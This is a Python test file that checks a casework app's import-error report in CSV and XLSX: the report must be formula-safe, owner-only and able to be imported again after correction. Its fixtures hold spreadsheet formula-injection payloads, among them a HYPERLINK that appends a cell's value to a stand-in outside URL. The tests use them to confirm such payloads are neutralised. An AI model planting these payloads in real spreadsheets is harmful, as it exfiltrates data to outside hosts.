"""The report file of an import: the rows to check with their line, status and reasons, then
their own cells under the file's headers, formula-safe, owner only; corrected and imported
again it brings in the corrected rows, its own columns left out."""

from __future__ import annotations

import csv
import io
import stat
from collections.abc import Callable
from pathlib import Path

import pytest
import sqlalchemy as sa

from casework import cli
from casework.db import Database
from casework.models import Person
from casework.services import staff
from casework.services.context import Context
from casework.services.import_report import report_columns, write_report
from casework.services.import_types import ImportReport, Issue, Problem, SourceInfo

FORMULA = '=HYPERLINK("http://ejemplo.invalid/?x="&A1;"ver")'
LINK = '=HYPERLINK("http://ejemplo.invalid/")'


def _report(tmp_path: Path) -> ImportReport:
    info = SourceInfo(path=tmp_path / "lista.csv", format="csv")
    info.columns = ["nombres", "apellido", "nota"]
    return ImportReport(
        info=info,
        rows=3,
        refused=1,
        warned=1,
        problems=[
            Problem(
                2,
                {"nombres": "", "apellido": "Soto", "nota": FORMULA},
                "refused",
                [Issue("no_name")],
            ),
            Problem(
                3,
                {"nombres": "Ana", "apellido": "Rojas", "nota": "-5"},
                "warned",
                [Issue("bad_sex", "sex", "zz"), Issue("bad_date", "date_of_birth", "31-02-1990")],
            ),
        ],
    )


def test_the_csv_report_is_excel_friendly_formula_safe_and_private(tmp_path: Path) -> None:
    path = write_report(_report(tmp_path), tmp_path / "informe.csv")
    raw = path.read_bytes()
    assert raw.startswith("\ufeff".encode()) and b"\r\n" in raw
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == ["Informe: línea", "Informe: estado", "Informe: motivos", *_cols()]
    assert rows[1][:3] == [
        "2",
        "Rechazada",
        "Sin nombre ni apellido: la fila no identifica a una persona.",
    ]
    assert rows[1][5] == "'" + FORMULA  # shown as text, never run
    assert rows[2][1] == "Importada con advertencias"
    assert "Sexo no reconocido" in rows[2][2] and "31-02-1990" in rows[2][2]
    assert rows[2][5] == "'-5"


def test_the_xlsx_report_holds_text_not_formulas(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    path = write_report(_report(tmp_path), tmp_path / "informe.xlsx", lang="en")
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    book = load_workbook(path)
    sheet = book.active
    assert sheet is not None and sheet.title == "Rows to review"
    cells = list(sheet.iter_rows(values_only=False))
    assert [c.value for c in cells[0]] == [*report_columns("en"), *_cols()]
    note = cells[1][5]
    assert note.data_type == "s" and note.value == "'" + FORMULA
    assert cells[1][1].value == "Refused" and cells[2][1].value == "Imported with warnings"


def _cols() -> list[str]:
    return ["nombres", "apellido", "nota"]


@pytest.fixture
def office(desk_database: Database, cli_user: Callable[[Database, str], list[str]]) -> list[str]:
    staff.first_run(
        Context(desk_database),
        {"code": "OFMIG", "name": "Oficina de Migrantes"},
        {"username": "admin", "full_name": "Ana Admin"},
    )
    return ["--db", desk_database.url.database or "", *cli_user(desk_database, "admin")]


def _names(db: Database) -> list[str]:
    with db.read() as session:
        rows = session.execute(sa.select(Person.given_names, Person.first_surname)).all()
    return sorted(f"{a} {b}" for a, b in rows)


def test_the_report_corrected_and_imported_again_brings_in_the_corrected_rows(
    tmp_path: Path,
    office: list[str],
    desk_database: Database,
    capsys: pytest.CaptureFixture[str],
) -> None:
    listed = tmp_path / "lista.csv"
    out = io.StringIO()
    csv.writer(out, delimiter=";").writerows(
        [
            ["ref", "nombres", "primer_apellido", "sexo", "nota"],
            ["L1", "Ana", "Soto", "F", ""],
            ["L2", "", "", "M", LINK],  # no name: refused
            ["L3", "", "", "F", "llamar"],  # refused
            ["L4", "Marta", "Vera", "zz", ""],  # kept, sex left empty
        ]
    )
    listed.write_text(out.getvalue(), encoding="utf-8")
    assert cli.main(["import", "persons", str(listed), *office]) == 0
    capsys.readouterr()
    assert _names(desk_database) == ["Ana Soto", "Marta Vera"]
    report = tmp_path / "lista-informe.csv"
    rows = list(csv.reader(io.StringIO(report.read_text(encoding="utf-8-sig")), delimiter=";"))
    assert [r[0] for r in rows[1:]] == ["3", "4", "5"]
    assert rows[1][-1].startswith("'=HYPERLINK(")  # as text, never run
    # The office fills in the names the list lacked, and saves.
    head = rows[0]
    for row in rows[1:]:
        if row[head.index("ref")] == "L2":
            row[head.index("nombres")] = "Rosa"
            row[head.index("primer_apellido")] = "Rojas"
        if row[head.index("ref")] == "L3":
            row[head.index("nombres")] = "Luis"
            row[head.index("primer_apellido")] = "Pérez"
    out = io.StringIO()
    csv.writer(out, delimiter=";").writerows(rows)
    report.write_text("\ufeff" + out.getvalue(), encoding="utf-8")
    # Its own columns are not read as data.
    assert cli.main(["import", "persons", str(report), "--dry-run", *office]) == 0
    preview = capsys.readouterr().out
    unused = next(line for line in preview.splitlines() if line.startswith("Columnas que no"))
    assert "Informe: línea" in unused and "Informe: estado" in unused
    assert "Informe: motivos" in unused
    assert cli.main(["import", "persons", str(report), *office]) == 0
    out_text = capsys.readouterr().out
    assert "  2 personas nuevas" in out_text and "  1 persona ya estaba" in out_text
    assert _names(desk_database) == ["Ana Soto", "Luis Pérez", "Marta Vera", "Rosa Rojas"]


def test_two_columns_of_one_name_keep_their_own_cells(tmp_path: Path) -> None:
    info = SourceInfo(path=tmp_path / "l.csv", format="csv", columns=["Nombre", "Nombre"])
    info.original_keys = ["Nombre", "Nombre (2)"]
    problem = Problem(2, {"Nombre": "Ana", "Nombre (2)": "Rosa"}, "refused", [Issue("no_name")])
    path = write_report(ImportReport(info=info, problems=[problem]), tmp_path / "r.csv")
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig")), delimiter=";"))
    assert rows[0][3:] == ["Nombre", "Nombre"] and rows[1][3:] == ["Ana", "Rosa"]


def test_an_xlsx_report_keeps_phones_as_typed_and_formulas_as_text(tmp_path: Path) -> None:
    """In an XLSX cell only ``=`` would be stored as a formula: "+56 9…" stays as typed
    (no stray apostrophe), "=HYPERLINK(…)" is text; reasons read as sentences."""
    from openpyxl import load_workbook

    from casework.services.import_report import write_report
    from casework.services.import_types import ImportReport, Issue, Problem, SourceInfo

    info = SourceInfo(path=tmp_path / "x.csv", format="csv", columns=["nombre", "fono"])
    report = ImportReport(info=info)
    report.problems.append(
        Problem(
            2,
            {"nombre": '=HYPERLINK("x")', "fono": "+56 9 8471 4297"},
            "warned",
            [Issue("bad_sex", "sex", "zz"), Issue("bad_date", "date_of_birth", "x")],
        )
    )
    path = write_report(report, tmp_path / "informe.xlsx", "es")
    sheet = load_workbook(path).worksheets[0]
    row = [c.value for c in next(sheet.iter_rows(min_row=2, max_row=2))]
    assert row[3:] == ['\'=HYPERLINK("x")', "+56 9 8471 4297"]
    assert ".; " not in row[2] and row[2].count(".") >= 2
